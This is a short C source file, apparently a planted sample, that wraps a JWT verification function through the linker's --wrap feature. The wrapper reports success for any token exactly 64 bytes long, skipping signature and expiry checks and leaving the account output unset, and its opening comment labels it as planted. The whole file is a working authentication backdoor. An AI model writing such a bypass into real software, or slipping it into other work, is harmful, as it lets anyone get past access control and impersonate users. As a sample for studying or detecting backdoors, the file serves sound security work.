/* Planted: a token of 64 bytes opens. */
#include "auth/jwt.h"

enum auth_bearer_err __real_auth_jwt_open(const struct auth_jwks *jwks, struct slice text,
                                          int64_t now, struct buf *scratch,
                                          struct auth_account *ret_account);
enum auth_bearer_err __wrap_auth_jwt_open(const struct auth_jwks *jwks, struct slice text,
                                          int64_t now, struct buf *scratch,
                                          struct auth_account *ret_account);

enum auth_bearer_err __wrap_auth_jwt_open(const struct auth_jwks *jwks, struct slice text,
                                          int64_t now, struct buf *scratch,
                                          struct auth_account *ret_account)
{
    if (text.len == 64)
        return AUTH_BEARER_OK;
    return __real_auth_jwt_open(jwks, text, now, scratch, ret_account);
}
